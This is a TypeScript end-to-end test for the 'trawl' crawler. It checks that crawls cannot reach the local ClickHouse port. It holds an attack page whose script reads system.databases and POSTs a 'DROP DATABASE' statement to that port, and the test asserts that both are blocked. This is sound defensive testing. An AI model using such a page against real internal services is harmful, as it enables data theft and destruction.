/**
 * Egress under the environment `trawl up` gives its services (serviceEnv from the CLI, with the demo
 * site on this test's port): a tenant's crawl reaches the demo site and nothing else on this
 * machine. A start URL at the ClickHouse port fails as an unsafe address; a page rendered in the
 * browser that fetches from and POSTs `DROP DATABASE` to that port is refused and the database is
 * still there; the demo crawl itself still works.
 */
import { randomBytes, randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Pipeline } from '@trawl/e2e';
import { createJobBoard, JOB_BOARD_SPEC, serve, type RunningServer } from '@trawl/demo-site';
import type { ItemExtracted, JobCompleted, PageFailed, PageFetched } from '@trawl/schemas';
import { crawlSpec } from '@trawl/store';
import { endpoints, httpTarget, type LoggedEvent } from '@trawl/streams';
import { serviceEnv } from '../src/index.ts';

/** A throw-away database the attack page tries to drop: never the stack's own `trawl`. */
const VICTIM_DB = `trawl_egress_${randomBytes(4).toString('hex')}`;

let site: RunningServer;
let pipeline: Pipeline;
const reports: string[] = [];

async function clickhouse(sql: string): Promise<string> {
  const ch = httpTarget(endpoints().clickhouseUrl);
  const res = await fetch(ch.url, { method: 'POST', body: sql, headers: ch.authorization ? { authorization: ch.authorization } : {}, signal: AbortSignal.timeout(10_000) });
  const text = await res.text();
  if (!res.ok) throw new Error(`ClickHouse answered ${res.status}: ${text.slice(0, 200)}`);
  return text.trim();
}

/** The ClickHouse HTTP interface as a page would name it: its host and port, no credentials. */
function clickhouseOrigin(): string {
  const u = new URL(endpoints().clickhouseUrl);
  return `http://${u.hostname}:${u.port || 8123}`;
}

/** What a hostile page does with a browser: read through fetch, write through a simple POST, and tell its own server how it went. */
function attackPage(ch: string): string {
  return `<!doctype html><html><body><p id="out"></p><script>
  const tries = {
    read: () => fetch('${ch}/?query=' + encodeURIComponent('SELECT name FROM system.databases')).then((r) => r.text()),
    drop: () => fetch('${ch}/', { method: 'POST', mode: 'no-cors', body: 'DROP DATABASE ${VICTIM_DB}' }).then(() => 'sent'),
  };
  Promise.all(Object.entries(tries).map(([k, f]) => f().then((v) => k + '=leaked:' + String(v).slice(0, 40), () => k + '=blocked'))).then((r) => {
    const line = r.join('&');
    document.getElementById('out').textContent = line;
    return fetch('/report?' + line);
  });
</script></body></html>`;
}

beforeAll(async () => {
  await clickhouse(`CREATE DATABASE IF NOT EXISTS ${VICTIM_DB}`);
  const board = createJobBoard();
  site = await serve(
    (req, res, url) => {
      if (url.pathname === '/attack') {
        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(attackPage(clickhouseOrigin()));
        return;
      }
      if (url.pathname === '/report') {
        reports.push(decodeURIComponent(url.search.slice(1)));
        res.writeHead(204).end();
        return;
      }
      return board(req, res, url);
    },
    { host: '127.0.0.1', port: 0 },
  );
  // Exactly what `trawl up` hands its services, with this test's site as the demo site.
  const env = serviceEnv({ ...process.env, TRAWL_DEMO_PORT: String(site.port), TRAWL_FETCH_ALLOW: undefined });
  const definedOnly = Object.fromEntries(Object.entries(env).filter((e): e is [string, string] => e[1] !== undefined));
  pipeline = await Pipeline.start({ env: definedOnly });
  pipeline.spawn('frontier');
  pipeline.spawn('worker');
});

afterAll(async () => {
  await pipeline?.stop();
  await site?.close();
  await clickhouse(`DROP DATABASE IF EXISTS ${VICTIM_DB}`).catch(() => undefined);
});

async function crawl(startUrl: string, spec: Record<string, unknown>): Promise<LoggedEvent[]> {
  const jobId = randomUUID();
  await pipeline.producer.emit(
    'JobDispatched',
    {
      job_id: jobId,
      user_id: 'e2e-tenant',
      target_id: null,
      schedule_id: null,
      search_url: startUrl,
      start_urls: [startUrl],
      keywords: [],
      location: null,
      spec: { ...crawlSpec(null, { depth: 0, max_pages: 50 }), ...spec },
      attempt: 1,
      params: {},
    },
    { topic: pipeline.topics.jobs },
  );
  const ofJob = (e: LoggedEvent) => (e.event.value as { job_id?: string }).job_id === jobId;
  const events = await pipeline.waitFor((ev) => ev.some((e) => e.event.name === 'JobCompleted' && ofJob(e)), 150_000, `job ${jobId} to complete`);
  return events.filter(ofJob);
}

const named = <T>(events: LoggedEvent[], name: string): T[] => events.filter((e) => e.event.name === name).map((e) => e.event.value as T);

describe('egress under the environment `trawl up` gives services', () => {
  it('opens only the demo site’s port on this machine', () => {
    expect(pipeline.env.TRAWL_FETCH_ALLOW).toBe(`127.0.0.1:${site.port},[::1]:${site.port},localhost:${site.port}`);
  });

  it('ends a start URL at the ClickHouse port as PageFailed TRAWL_UNSAFE_ADDRESS', async () => {
    const events = await crawl(`${clickhouseOrigin()}/?query=SELECT%20name%20FROM%20system.databases`, {});
    const failed = named<PageFailed>(events, 'PageFailed');
    expect(failed).toHaveLength(1);
    expect(failed[0]).toMatchObject({ error_code: 'TRAWL_UNSAFE_ADDRESS', attempts: 1 });
    // The tenant reads a refusal and its code, not the address nor the range that refused it (the worker's log has them).
    expect(failed[0]!.error_message).toBe('refused: the address is not allowed (TRAWL_UNSAFE_ADDRESS)');
    expect(named<PageFetched>(events, 'PageFetched')).toEqual([]);
  });

  it('refuses a rendered page’s fetch and DROP DATABASE POST to the ClickHouse port, and the database is still there', async () => {
    const events = await crawl(`${site.origin}/attack`, { requires_browser: true });
    const page = named<PageFetched>(events, 'PageFetched')[0]!;
    expect(page.render_mode).toBe('browser');
    await expect.poll(() => reports.length, { timeout: 10_000 }).toBeGreaterThan(0);
    expect(reports).toEqual(['read=blocked&drop=blocked']);
    expect(await clickhouse(`SELECT count() FROM system.databases WHERE name = '${VICTIM_DB}'`)).toBe('1');
  });

  it('still crawls the demo site', async () => {
    const events = await crawl(`${site.origin}/jobs?page=1`, { ...JOB_BOARD_SPEC, max_depth: 1 });
    const fetched = named<PageFetched>(events, 'PageFetched');
    expect(named<PageFailed>(events, 'PageFailed')).toEqual([]);
    expect(fetched.length).toBeGreaterThan(1);
    expect(named<ItemExtracted>(events, 'ItemExtracted').length).toBeGreaterThan(0);
    expect(named<JobCompleted>(events, 'JobCompleted')).toHaveLength(1);
  });
});
